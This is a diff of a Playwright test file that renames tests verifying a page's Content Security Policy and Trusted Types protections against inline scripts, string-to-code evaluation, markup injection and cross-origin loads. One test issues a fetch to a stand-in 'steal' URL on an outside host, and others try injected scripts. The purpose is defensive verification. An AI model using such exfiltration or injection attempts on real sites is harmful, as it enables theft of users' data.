@@ -6,7 +6,7 @@ test.beforeEach(async ({ visit }) => {
   await visit('/terms');
 });
 
-test('an inline script does not run', { tag: '@slow' }, async ({ page, log }) => {
+test('blocks inline scripts and inline event handlers', { tag: '@slow' }, async ({ page, log }) => {
   await page.evaluate(() =>
     new Promise((resolve) => {
       const frame = document.createElement('div');
@@ -30,7 +30,7 @@ test('an inline script does not run', { tag: '@slow' }, async ({ page, log }) =>
   expect(await page.evaluate(() => 'owned' in window)).toBe(false);
 });
 
-test('a string is never made into code', async ({ page }) => {
+test('blocks eval, Function and setTimeout with a string', async ({ page }) => {
   // A listener is called by the page itself, so the page's policy counts; the debugger would be let through.
   await page.evaluate(() => {
     const results: string[] = [];
@@ -59,7 +59,7 @@ test('a string is never made into code', async ({ page }) => {
   expect(await page.evaluate(() => 'owned' in window)).toBe(false);
 });
 
-test('a string is never made into markup', async ({ page, log }) => {
+test('rejects plain strings as HTML, srcdoc or script address', async ({ page, log }) => {
   const refused = await page.evaluate(() => {
     const element = document.createElement('div');
     const tries: (() => void)[] = [
@@ -83,7 +83,7 @@ test('a string is never made into markup', async ({ page, log }) => {
   await expect.poll(() => log.violations.length).toBeGreaterThanOrEqual(6);
 });
 
-test('no other policy of trusted types can be made', { tag: '@slow' }, async ({ page }) => {
+test('rejects the creation of another Trusted Types policy', { tag: '@slow' }, async ({ page }) => {
   const name = await page.evaluate(() => {
     const types = (window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } })
       .trustedTypes;
@@ -97,7 +97,7 @@ test('no other policy of trusted types can be made', { tag: '@slow' }, async ({ 
   expect(name).toBe('TypeError');
 });
 
-test('a style with text in it has no effect', { tag: '@slow' }, async ({ page, log }) => {
+test('ignores inline style elements and style attributes', { tag: '@slow' }, async ({ page, log }) => {
   await page.evaluate(() => {
     const style = document.createElement('style');
     style.textContent = 'body { outline: 7px solid rgb(1, 2, 3) !important; }';
@@ -114,7 +114,7 @@ test('a style with text in it has no effect', { tag: '@slow' }, async ({ page, l
   await expect.poll(() => log.violations.length).toBeGreaterThanOrEqual(2);
 });
 
-test('nothing is sent or loaded from elsewhere', async ({ page, log }) => {
+test('blocks fetches, forms, frames and base addresses that point to another origin', async ({ page, log }) => {
   const sent = await page.evaluate(() =>
     fetch('https://elsewhere.example/steal').then(
       () => 'sent',
